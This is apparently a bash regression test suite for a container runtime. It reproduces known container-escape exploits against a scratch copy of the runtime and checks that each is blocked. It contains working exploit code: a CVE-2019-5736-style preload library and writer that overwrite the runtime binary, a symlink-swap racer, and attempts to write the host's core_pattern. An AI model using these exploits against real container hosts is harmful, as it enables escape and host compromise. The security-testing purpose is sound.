#!/usr/bin/env bash
# Container escapes and privilege errors, each as the exploit that worked
# against gamut-oci before its fix (docs/containers.md, "Security").  Every
# exploit runs against a copy of gamut in a scratch directory, inside a
# private mount namespace, and never aims at the build or the host's /dev:
# the "host" files it attacks are scratch files under $T.
if [ -z "${GAMUT_ESCAPES_NS:-}" ] && [ "$(id -u)" -eq 0 ] &&
   unshare -m true 2>/dev/null; then
	GAMUT_ESCAPES_NS=1 exec unshare -m --propagation private "$0" "$@"
fi
. "$(dirname "$0")/oci_lib.sh"
need_root
command -v python3 >/dev/null || skip "needs python3 to edit config.json"
command -v cc >/dev/null || skip "needs a C compiler for the exploit programs"

# The runtime under attack: a scratch copy, never the build itself.
# OCI_PEER=/usr/sbin/runc runs the same exploits against another runtime
# with runc's command line, for comparison (docs/containers.md).
mkdir -p "$T/bin"
GAMUT_BUILT=${OCI_PEER:-$GAMUT}
cp "$GAMUT_BUILT" "$T/bin/gamut"
ln -s gamut "$T/bin/gamut-oci"
GAMUT=$T/bin/gamut OCI=$T/bin/gamut-oci
M="marker-$PFX"
sum() { sha256sum "$1" | cut -d' ' -f1; }

# ---- 1. CVE-2019-5736 class: the image rewrites the runtime binary ----
# The entrypoint's interpreter is /proc/self/exe, so the kernel starts the
# runtime's own binary as the container's process, with the image's
# libraries and /etc/ld.so.preload.  The preloaded library keeps an O_PATH
# fd of /proc/self/exe and execs a writer that waits for the runtime to
# exit (ETXTBSY until then) and overwrites the file through the fd.
B1=$T/b1
make_bundle "$B1"
R1=$B1/rootfs
for lib in $(ldd "$GAMUT" | grep -o '/[^ ]*'); do
	mkdir -p "$R1$(dirname "$lib")"
	cp -L "$lib" "$R1$lib"
done
cat >"$T/evil.c" <<'EOF'
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void)
{
	char fd[16];
	int f = open("/proc/self/exe", O_PATH);

	snprintf(fd, sizeof(fd), "%d", f);
	execl("/writer", "/writer", fd, (char *)0);
}
EOF
cat >"$T/writer.c" <<'EOF'
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
/* Tries for up to 10 s to overwrite the file behind fd argv[1]; records
 * the outcome in /result, which the test reads from the host side. */
int main(int argc, char **argv)
{
	static const char payload[] = "#!/bin/sh\necho PWNED\n";
	char path[64];
	int e = 0;
	FILE *r;

	(void)argc;
	snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[1]);
	for (int i = 0; i < 1000; i++) {
		int fd = open(path, O_WRONLY | O_TRUNC);

		if (fd >= 0 && write(fd, payload, sizeof(payload) - 1) > 0) {
			r = fopen("/result", "w");
			fputs("overwritten\n", r);
			fclose(r);
			return 0;
		}
		e = errno;
		if (fd >= 0)
			close(fd);
		if (e != ETXTBSY)
			break;
		usleep(10000);
	}
	r = fopen("/result", "w");
	fprintf(r, "blocked: %s\n", strerror(e));
	fclose(r);
	return 0;
}
EOF
cc -shared -fPIC -o "$R1/evil.so" "$T/evil.c" || fail "build evil.so"
cc -static -O2 -o "$R1/writer" "$T/writer.c" || fail "build writer"
echo /evil.so >"$R1/etc/ld.so.preload"
printf '#!/proc/self/exe\n' >"$R1/entry"
chmod 755 "$R1/entry"
before=$(sum "$GAMUT")
set_args "$B1" /entry
# An ASan build (make asan) refuses to start with a library loaded before
# its runtime: let it, so the exploit runs there too.
edit_config "$B1" 'c["process"]["env"].append("ASAN_OPTIONS=verify_asan_link_order=0")'
oci run -d -b "$B1" "$PFX-exe" </dev/null >/dev/null 2>&1
check "exe exploit: container started" 0 $?
for _ in $(seq 150); do [ -s "$R1/result" ] && break; sleep 0.1; done
check_has "exe exploit: the write was refused" "blocked" "$(cat "$R1/result" 2>/dev/null)"
check "exe exploit: runtime binary unchanged" "$before" "$(sum "$GAMUT")"
check "exe exploit: runtime still runs" 0 "$("$OCI" --version >/dev/null 2>&1; echo $?)"
oci delete --force "$PFX-exe" >/dev/null 2>&1
# Whatever happened, the later exploits attack an intact runtime.
[ "$(sum "$GAMUT")" = "$before" ] || cp "$GAMUT_BUILT" "$GAMUT"

# ---- 2. an image whose /dev is a symlink out of the rootfs ----
# Before the fix the runtime created fd, stdin, stdout and stderr and
# replaced ptmx in the link's target on the host.
V=$T/victim
for how in abs rel; do
	rm -rf "$V"; mkdir -p "$V/pts"
	echo host >"$V/ptmx"; : >"$V/pts/ptmx"
	B2=$T/b2-$how R2=$T/b2-$how/rootfs
	mkdir -p "$B2"
	cp -a "$T/rootfs" "$R2"
	rm -rf "$R2/dev"
	if [ $how = abs ]; then ln -s "$V" "$R2/dev"; else ln -s ../../victim "$R2/dev"; fi
	(cd "$B2" && "$OCI" spec) || fail "spec $how"
	edit_config "$B2" 'c["process"]["terminal"]=False'
	set_args "$B2" sh -c "ls /dev/null >/dev/null && echo in-container" "$M"
	out=$(oci run -b "$B2" "$PFX-dev$how" </dev/null 2>&1)
	check "/dev -> $how link: container ran" in-container "$out"
	check "/dev -> $how link: nothing made outside the rootfs" \
		"ptmx pts" "$(ls "$V" | tr '\n' ' ' | sed 's/ $//')"
	check "/dev -> $how link: host ptmx untouched" host "$(cat "$V/ptmx")"
done

# ---- 2b. the same, raced: a directory swapped for a symlink during setup ----
# A racer exchanges the rootfs's /data (a directory) with a symlink to a
# host directory while containers start; a bind mount of a file onto
# /data/f then created the file on the host about once in 500 runs.
cat >"$T/racer.c" <<'EOF'
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <time.h>
/* Swaps argv[1] and argv[2] (a directory and a symlink) for argv[3] s. */
int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 3 ? atoi(argv[3]) : 10);

	while (time(NULL) < end)
		renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
	return 0;
}
EOF
sed -i 's/#include <time.h>/#include <time.h>\n#include <stdlib.h>/' "$T/racer.c"
cc -O2 -o "$T/racer" "$T/racer.c" || fail "build racer"
BR=$T/br V2=$T/victim2
make_bundle "$BR"
mkdir -p "$V2" "$BR/rootfs/data"
ln -s "$V2" "$BR/rootfs/data-link"
echo src >"$T/srcfile"
edit_config "$BR" "c['mounts'].append({'destination':'/data/f','type':'bind','source':'$T/srcfile','options':['bind','ro']})"
set_args "$BR" true
"$T/racer" "$BR/rootfs/data" "$BR/rootfs/data-link" 30 &
racer=$!
n=0 t_end=$(($(date +%s) + 25))
while [ $n -lt 300 ] && [ "$(date +%s)" -lt $t_end ]; do
	oci run -b "$BR" "$PFX-race" </dev/null >/dev/null 2>&1
	oci delete --force "$PFX-race" >/dev/null 2>&1
	n=$((n + 1))
	[ -z "$(ls -A "$V2")" ] || break
done
kill $racer 2>/dev/null; wait $racer 2>/dev/null
check "raced /data swap ($n runs): nothing made outside the rootfs" "" "$(ls -A "$V2")"

# ---- 3. no process.capabilities means no capabilities ----
B3=$T/b3
make_bundle "$B3"
edit_config "$B3" 'del c["process"]["capabilities"]'
set_args "$B3" sh -c 'grep CapEff /proc/self/status; mount -o remount,rw /proc/sys 2>/dev/null && echo remounted' "$M"
out=$(oci run -b "$B3" "$PFX-caps" </dev/null 2>&1)
check_has "no capabilities listed: CapEff empty" "CapEff:	0000000000000000" "$out"
case "$out" in *remounted*) fail "no capabilities listed: remounted /proc/sys read-write" ;; *) ok "no capabilities listed: /proc/sys stays read-only" ;; esac

# ---- 4. sysctls outside the container's namespaces ----
B4=$T/b4
make_bundle "$B4"
set_args "$B4" true
cp "$B4/config.json" "$T/config4.json"
core=$(cat /proc/sys/kernel/core_pattern)
# Each key is set to the value the host already has: a runtime that lets
# one through (as before the fix) changes nothing on the host, and the
# refusal is what is checked.
for kv in 'kernel.core_pattern' 'vm.overcommit_memory' 'kernel.hostnamex' \
	  'net.ipv4.ip_forward:nonet' 'kernel.shmmax:noipc' 'kernel.hostname:nouts'; do
	key=${kv%%:*} drop=
	case $kv in *:no*) drop=${kv##*:no} ;; esac
	val=$(cat "/proc/sys/$(echo "$key" | tr . /)" 2>/dev/null || echo 1)
	cp "$T/config4.json" "$B4/config.json"
	edit_config "$B4" "c['linux']['sysctl']={'$key':'$val'}; c['linux']['namespaces']=[n for n in c['linux']['namespaces'] if n['type']!={'net':'network','ipc':'ipc','uts':'uts'}.get('$drop','')]"
	# Into a file: a container that does get created holds a pipe open.
	oci create -b "$B4" "$PFX-sysctl" </dev/null >"$T/out" 2>&1; rc=$?
	out=$(cat "$T/out")
	check "sysctl $key${drop:+ without a $drop namespace}: refused" 1 "$rc"
	check_has "sysctl $key: message names it" "$key" "$out"
	oci delete --force "$PFX-sysctl" >/dev/null 2>&1
done
check "host core_pattern untouched" "$core" "$(cat /proc/sys/kernel/core_pattern)"
cp "$T/config4.json" "$B4/config.json"
edit_config "$B4" "c['linux']['sysctl']={'net.ipv4.ip_forward':'1','kernel.shmmax':'4096','fs.mqueue.msg_max':'20'}"
set_args "$B4" sh -c 'cat /proc/sys/net/ipv4/ip_forward /proc/sys/kernel/shmmax /proc/sys/fs/mqueue/msg_max' "$M"
out=$(oci run -b "$B4" "$PFX-sysctl-ok" </dev/null 2>&1)
check "namespaced sysctls applied" "1 4096 20" "$(echo $out)"

# ---- 5. ids that cannot be set ----
B5=$T/b5
make_bundle "$B5"
set_args "$B5" id -u
for f in uid gid; do
	edit_config "$B5" "c['process']['user']={'uid':0,'gid':0}; c['process']['user']['$f']=4294967295"
	out=$(oci run -b "$B5" "$PFX-id" </dev/null 2>&1); rc=$?
	check "$f 4294967295: refused" 1 "$rc"
	check_has "$f 4294967295: message" "4294967295" "$out"
done
edit_config "$B5" "c['process']['user']={'uid':0,'gid':0,'additionalGids':[4294967295]}"
out=$(oci run -b "$B5" "$PFX-id" </dev/null 2>&1)
check "additionalGids 4294967295: refused" 1 "$?"
edit_config "$B5" "c['process']['user']={'uid':1000,'gid':1000}"
check "uid 1000 runs as 1000" 1000 "$(oci run -b "$B5" "$PFX-id" </dev/null 2>&1)"

# ---- 6. a symlinked rootfs is refused ----
B6=$T/b6
make_bundle "$B6"
rm -rf "$B6/rootfs"; ln -s "$T/rootfs" "$B6/rootfs"
oci create -b "$B6" "$PFX-link" </dev/null >"$T/out" 2>&1
check "symlinked rootfs: refused" 1 "$?"
out=$(cat "$T/out")
check_has "symlinked rootfs: message" "symlink" "$out"

# ---- 7. an image that moves /proc (found in review, 2026-12-07) ----
# /proc -> /ss/kernel/../../img while /ss/kernel -> /X/a/b: procfs is
# mounted at /X/img, then sysfs on /ss makes /proc resolve to the image's
# own /img, so every mask and the read-only /proc/sys missed and the
# container wrote the host's core_pattern (opened for append only here).
B7=$T/b7 R7=$T/b7/rootfs
make_bundle "$B7"
(cd "$R7" && rmdir proc sys && mkdir -p ss X/a/b X/img &&
	ln -s /X/a/b ss/kernel && ln -s /ss/kernel/../../img proc && ln -s /ss sys &&
	for i in $(seq 0 63); do mkdir -p img/self/fd/$i; done)
set_args "$B7" sh -c ': >>/X/img/sys/kernel/core_pattern 2>/dev/null && echo CORE_PATTERN_WRITABLE; : >>/proc/sys/kernel/core_pattern 2>/dev/null && echo PROC_SYS_WRITABLE' "$M"
out=$(oci run -b "$B7" "$PFX-proc" </dev/null 2>&1)
case $out in *WRITABLE*) fail "moved /proc: $out" ;; *) ok "moved /proc: no writable core_pattern ($(echo "$out" | head -1))" ;; esac

# ---- 8. a faked cap_last_cap (found in review) ----
# An image symlink /data -> /proc/sys/kernel plus a volume on /data put
# a "0" in the container's cap_last_cap, which sized the bounding set drop.
B8=$T/b8
make_bundle "$B8"
ln -s /proc/sys/kernel "$B8/rootfs/data2"
mkdir -p "$T/vol8" && echo 0 >"$T/vol8/cap_last_cap"
edit_config "$B8" "c['process']['noNewPrivileges']=False; c['mounts'].append({'destination':'/data2','type':'bind','source':'$T/vol8','options':['rbind']})"
set_args "$B8" sh -c 'grep -E "CapEff|CapBnd" /proc/self/status' "$M"
out=$(oci run -b "$B8" "$PFX-caplast" </dev/null 2>&1)
case $out in *"CapEff:	00000000"*|*"inside /proc"*) ok "faked cap_last_cap: $(echo $out | cut -c1-80)" ;;
	*) fail "faked cap_last_cap: $out" ;; esac

# ---- 9. exec follows the config create checked, not the bundle's now ----
B9=$T/b9
make_bundle "$B9"
edit_config "$B9" "c['process']['user']={'uid':1000,'gid':1000}"
set_args "$B9" sleep 100
oci create -b "$B9" "$PFX-cfg" </dev/null >/dev/null 2>&1 && oci start "$PFX-cfg"
edit_config "$B9" "c['process']['capabilities']={k:['CAP_SYS_ADMIN','CAP_SYS_MODULE'] for k in ('bounding','effective','permitted')}"
check "exec after the bundle's config changed: caps as created" \
	"CapEff:	0000000000000000" "$(oci exec "$PFX-cfg" grep CapEff /proc/self/status 2>&1)"
check "exec -u 1000 keeps the config's gid" "1000 1000" "$(oci exec -u 1000 "$PFX-cfg" sh -c 'echo $(id -u) $(id -g)' 2>&1)"
oci delete --force "$PFX-cfg" >/dev/null 2>&1

# ---- 10. cgroupsPath "/" and relative bind sources ----
B10=$T/b10
make_bundle "$B10"
edit_config "$B10" "c['linux']['cgroupsPath']='/'"
oci create -b "$B10" "$PFX-cgroot" </dev/null >"$T/out" 2>&1
check "cgroupsPath / refused" 1 $?
check_has "cgroupsPath / message" "root cgroup" "$(cat "$T/out")"
mkdir -p "$B10/relsrc" && echo from-bundle >"$B10/relsrc/f"
edit_config "$B10" "del c['linux']['cgroupsPath']; c['mounts'].append({'destination':'/rel','type':'bind','source':'relsrc','options':['rbind']})"
set_args "$B10" cat /rel/f
check "relative bind source is the bundle's" from-bundle "$(cd / && oci run -b "$B10" "$PFX-rel" </dev/null 2>&1)"

check_no_leaks "escapes"
finish
